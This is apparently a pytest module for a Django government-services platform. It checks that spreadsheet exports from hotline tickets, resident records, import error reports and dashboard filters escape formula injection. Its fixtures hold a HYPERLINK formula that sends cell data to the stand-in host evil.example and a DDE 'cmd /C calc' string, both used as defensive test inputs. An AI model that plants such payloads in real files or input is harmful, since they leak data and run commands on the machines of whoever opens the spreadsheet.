"""Every spreadsheet the platform writes goes through ONE writer (gridgov.core.tabular): other
people's text never becomes a live formula. A payload goes in through each door (a case or
ticket text, a resident's name, an import file's header and cell, a dashboard filter), the
workbook comes out through the real download or command, and openpyxl reads it back: no cell is
a formula (data_type 'f') and the text survives behind a leading apostrophe."""

import csv
import io
from datetime import datetime

import pytest
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.urls import include, path
from openpyxl import load_workbook

from gridgov.accounts.models import Role
from gridgov.core import tabular
from gridgov.hotline.tests.util import ticket
from gridgov.insight.tests.test_api import TZ, client_for, world  # noqa: F401 - the fixture
from gridgov.insight.tests.test_topics import hotline, report  # noqa: F401 - the fixture
from gridgov.registry import services as registry
from gridgov.registry.importers import write_template
from gridgov.registry.tests.conftest import base, make_id, write_csv  # noqa: F401 - the fixture
from gridgov.testing import make_user

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
PAYLOADS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]

urlpatterns = [
    path("hotline/", include("gridgov.hotline.urls")),
    path("", include("gridgov.urls")),
]


def cells(data):
    """Every cell of every sheet of an .xlsx (bytes or path)."""
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_inert(data, *texts):
    found = cells(data)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert formulas == []
    values = [c.value for c in found if isinstance(c.value, str)]
    for t in texts:
        assert any(v == "'" + t or (t in v and not v.startswith(("=", "+", "-", "@"))) for v in values), t


def test_the_cell_rule():
    row = tabular.safe_row([LINK, "-2+3", "@x", "\t=1", "正常文字", -5, 3.5, 0, True, None, "a\x07b", "\x01=1+1"])
    assert row == ["'" + LINK, "'-2+3", "'@x", "'\t=1", "正常文字", -5, 3.5, 0, True, None, "ab", "'=1+1"]
    wb = tabular.Workbook()
    wb.sheet("s").append(row)
    found = cells(wb.getvalue())
    assert [c.data_type for c in found] == ["s", "s", "s", "s", "s", "n", "n", "n", "b", "n", "s", "s"]


def test_dashboard_workbook_topics_and_filters(hotline):  # noqa: F811
    """The probe's case: ticket and case texts in the topics sheets of /api/insight/stats.xlsx."""
    s = hotline["street"]
    for i in range(4):
        ticket(f"X{i}", "2025-04", s["c2g1m1"], content=LINK + f" 路灯坏了{i}", category=("城乡建设", "路灯照明", ""))
    report(s["c2g1m1"], LINK + " 路灯坏了", datetime(2025, 4, 21, 9, 0, tzinfo=TZ), number="X9")
    r = client_for(hotline["lead"]).get("/api/insight/stats.xlsx")
    assert r.status_code == 200
    assert any(LINK in str(c.value) for c in cells(r.content) if c.parent.title == "本月议题")
    assert_inert(r.content, LINK + " 路灯坏了0")
    r = client_for(hotline["lead"]).get("/api/insight/stats.xlsx", {"item": "-A1"})  # the filter sheet repeats it
    assert r.status_code == 200 and "'-A1" in [c.value for c in cells(r.content) if c.parent.title == "筛选条件"]


@override_settings(ROOT_URLCONF=__name__)
def test_hotline_rates_workbook_page_and_command(street, client, tmp_path):
    for i in range(3):
        ticket(f"D{i}", "2024-03", street["c1g1m1"], solved=False, satisfaction="unsatisfied", content=PAYLOADS[i])
    client.force_login(make_user("sec", Role.COMMUNITY_SECRETARY, nodes=[street["c1"]]))
    r = client.get("/hotline/report/2024-03/rates.xlsx")
    assert r.status_code == 200
    assert_inert(r.content, *PAYLOADS[:3])
    call_command("hotline", "rates", "--month", "2024-03", "--xlsx", str(tmp_path / "r.xlsx"), stdout=io.StringIO(),
                 stderr=io.StringIO())
    assert_inert(str(tmp_path / "r.xlsx"), *PAYLOADS[:3])


def test_registry_export(base, tmp_path):  # noqa: F811
    registry.create_resident(name=LINK, id_number=make_id("19700101", 1), house=base["house_a1"], registered_address="-1号")
    make_user("admin", Role.ADMIN)
    call_command("export", "residents", "--user", "admin", "--out", str(tmp_path / "e.xlsx"))
    assert_inert(str(tmp_path / "e.xlsx"), LINK, "-1号")


def test_import_error_report_page_and_command(base, client, tmp_path):  # noqa: F811
    """A file's own header and cells come back in the error report: as text."""
    src = write_csv(tmp_path / "bad.csv", [["姓名", "身份证号", "@SUM(A1)"], [LINK, "=1+1", "x"]])
    client.force_login(make_user("admin", Role.ADMIN))
    r = client.post("/imports/", {"kind": "residents", "file": open(src, "rb")})
    assert r.status_code == 200
    r = client.get("/imports/errors.xlsx")
    assert_inert(r.content, "=1+1")
    with pytest.raises(CommandError):
        call_command("import", "residents", str(src), "--errors", str(tmp_path / "err.xlsx"), stdout=io.StringIO(),
                     stderr=io.StringIO())
    assert_inert(str(tmp_path / "err.xlsx"), "=1+1")
    with pytest.raises(CommandError):
        call_command("import", "residents", str(src), "--errors", str(tmp_path / "err.csv"), stdout=io.StringIO(),
                     stderr=io.StringIO())
    rows = list(csv.reader(open(tmp_path / "err.csv", encoding="utf-8-sig")))
    assert ["'=1+1"] == [v for row in rows for v in row if "=1+1" in v]


def test_templates_are_written_by_the_same_writer(tmp_path):
    for kind in ("residents", "volunteers"):
        write_template(kind, tmp_path / f"{kind}.xlsx")
        assert [c for c in cells(str(tmp_path / f"{kind}.xlsx")) if c.data_type == "f"] == []


def test_no_other_writer():
    """The one writer: no module but gridgov.core.tabular creates an openpyxl Workbook or a csv
    writer for people to open (geo's locate keeps the operator's own rows and columns as they were)."""
    from pathlib import Path

    root = Path(tabular.__file__).resolve().parents[1]
    offenders = []
    for f in root.rglob("*.py"):
        if "tests" in f.parts or f.name == "tabular.py" or f.name == "csvlocate.py":
            continue
        text = f.read_text(encoding="utf-8")
        if "openpyxl.Workbook(" in text or "import Workbook" in text and "gridgov.core.tabular import" not in text \
                or "csv.writer(" in text:
            offenders.append(str(f.relative_to(root)))
    assert offenders == []
